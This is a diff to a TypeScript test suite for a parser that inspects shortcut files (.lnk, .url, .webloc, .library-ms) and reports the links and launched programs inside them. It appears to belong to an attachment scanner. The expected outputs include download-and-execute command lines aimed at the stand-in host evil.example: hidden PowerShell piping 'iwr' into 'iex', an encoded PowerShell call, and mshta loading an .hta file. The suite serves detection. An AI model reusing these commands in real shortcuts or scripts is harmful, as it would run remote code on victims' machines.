@@ -1,8 +1,16 @@
+import { readdirSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
-import { findOf } from '../../../testkit/src/find.ts'
+import { findInFile, findOf } from '../../../testkit/src/find.ts'
+import { mutated } from '../../../testkit/src/mutated.ts'
 import { createReaders } from '../host/node.ts'
+import { read as readHere } from './read.ts'
 
 const readers = createReaders()
+const samples = new URL('../../samples/shortcut/', import.meta.url)
+const sample = async (name: string) => {
+  const { links, traits, gaps } = await readers.read('shortcut', findInFile(new URL(name, samples)))
+  return { hrefs: links.map(({ href }) => href), starts: traits.map(({ detail }) => detail), gaps }
+}
 const read = (text: string, name: string) => readers.read('shortcut', findOf(new TextEncoder().encode(text), name))
 
 describe('a shortcut', () => {
@@ -25,5 +33,48 @@ describe('a shortcut', () => {
   it('that can’t be read is not taken for clean', async () => {
     const { gaps } = await read('bplist00\u0001\u0002', 'a.webloc')
     expect(gaps).toEqual([{ id: 'attachment-content', detail: '2' }])
+  })
+
+  it.each([
+    ['binary.webloc', 'https://evil.example/binary?a=1'],
+    ['utf16.url', 'https://evil.example/utf16'],
+    ['documents.library-ms', 'file://evil.example/share/files'],
+    ['address.lnk', 'https://evil.example/item'],
+    ['share.lnk', 'https://evil.example:8443/invoice.exe'],
+  ])('%s leads to %s', async (name, href) => {
+    expect(await sample(name)).toEqual({ hrefs: [href], starts: [], gaps: [] })
+  })
+
+  it('of Apple in its binary form, with a long address', async () => {
+    expect((await sample('binary-japanese.webloc')).hrefs[0]).toMatch(/^https:\/\/evil\.example\/(?:long\/){20}$/)
+  })
+
+  it('may fetch its icon from elsewhere', async () => {
+    expect((await sample('cp932.url')).hrefs).toEqual(['file://192.0.2.7/共有/請求書.exe', 'file://192.0.2.7/icon/a.ico'])
+  })
+
+  it.each([
+    [
+      'invoice.pdf.lnk',
+      'C:\\Windows\\System32\\powershell.exe -w hidden -c iwr https://evil.example/a.ps1 | iex',
+      'https://evil.example/a.ps1',
+    ],
+    ['encoded.lnk', 'C:\\Windows\\System32\\cmd.exe /c powershell -nop -enc', 'https://evil.example/a.ps1'],
+    ['environment.lnk', '%windir%\\System32\\mshta.exe https://evil.example/x.hta', 'https://evil.example/x.hta'],
+  ])('%s starts a program, with an address for it', async (name, command, href) => {
+    const { hrefs, starts, gaps } = await sample(name)
+    expect(starts[0]).toContain(command)
+    expect(hrefs).toEqual([href])
+    expect(gaps).toEqual([])
+  })
+
+  it('damaged at random is still read, or said not to be', async () => {
+    const finds = readdirSync(samples)
+      .filter((name) => !name.startsWith('make'))
+      .map((name) => findInFile(new URL(name, samples)))
+    for (const find of mutated(finds, 1_000)) {
+      const { links, traits, gaps } = await readHere(find, { file: () => Promise.reject(new Error('none')), progress: () => {} })
+      expect(links.length + traits.length + gaps.length).toBeGreaterThan(0)
+    }
   })
 })
